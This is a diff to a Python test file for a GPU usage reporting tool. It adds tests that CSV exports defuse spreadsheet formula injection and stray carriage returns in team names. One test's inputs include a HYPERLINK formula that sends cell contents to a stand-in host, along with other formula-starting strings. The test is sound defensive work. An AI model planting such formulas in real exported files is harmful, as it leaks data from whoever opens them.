@@ -14,7 +14,8 @@ import pytest
 from gputally.report.columns import BUSY, COST, GPU_HOURS, JOBS, KEYS, KWH, MEAN, UNUSED, WHICH
 from gputally.report.ranges import Range, read_range
 from gputally.report.sheet import Amounts, Sheet, together
-from gputally.report.shown import as_csv, as_json, as_table, rounded
+from gputally.report.shown import as_csv, as_json, as_table
+from gputally.tables.text import rounded
 from tests.report.conftest import RULES
 
 WHOLE = Range(1_772_323_200, 1_772_409_600, ZoneInfo("Europe/Berlin"))  # from 1 March 2026, 01:00
@@ -145,6 +146,22 @@ def test_names_that_would_drive_a_terminal_or_break_a_line_do_not():
     assert len(line.split("…")[0]) == 39
     assert next(iter(csv.DictReader(io.StringIO(as_csv(sheet)))))["team"] == hostile
     assert json.loads(as_json(sheet))["rows"][0]["team"] == hostile
+
+
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://a.example/"&A1)', "+1", "-2+3", "@SUM(A1)", "\t=1"])
+def test_a_name_is_no_formula_of_a_spreadsheet(name):
+    """A user chooses it, and somebody in finance opens the file."""
+    sheet = Sheet("teams", WHOLE, (KEYS["team"], KWH), [{"team": name, "kwh": Decimal(-1)}], ())
+    (row,) = csv.DictReader(io.StringIO(as_csv(sheet), newline=""))
+    assert row["team"] == f"'{name}"
+    assert row["kwh"] == "-1.000000"
+    assert json.loads(as_json(sheet))["rows"][0]["team"] == name
+
+
+def test_a_carriage_return_ends_no_row():
+    sheet = Sheet("teams", WHOLE, (KEYS["team"], KWH), [{"team": "a\r=1", "kwh": Decimal(1)}], ())
+    (row,) = csv.DictReader(io.StringIO(as_csv(sheet), newline=""))
+    assert (row["team"], row["kwh"]) == ("a =1", "1.000000")
 
 
 def test_the_example_of_the_manual_is_what_is_printed():
